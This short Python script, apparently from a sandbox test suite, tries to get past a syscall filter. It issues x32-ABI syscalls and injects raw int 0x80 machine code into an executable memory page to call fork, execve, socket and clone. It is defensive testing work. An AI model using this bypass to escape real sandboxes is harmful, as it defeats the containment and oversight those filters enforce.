# Calls the kernel as a 32-bit program and as an x32 one, past a filter that only knows its own.
import ctypes
import mmap
import platform

for number in (39, 41, 57, 59, 520):
    attempt(f"x32 {number}", syscall, 0x40000000 | number, 0, 0, 0)
code = mmap.mmap(-1, 4096, prot=7)


def i386(number):
    # push rbx; mov eax, number; int 0x80; pop rbx; ret
    code.seek(0)
    code.write(b"\x53\xb8" + number.to_bytes(4, "little") + b"\xcd\x80\x5b\xc3")
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    if function() < 0:
        raise OSError


if platform.machine() == "x86_64":
    for number in (2, 20, 102, 120):
        attempt(f"i386 {number}", i386, number)
tell()
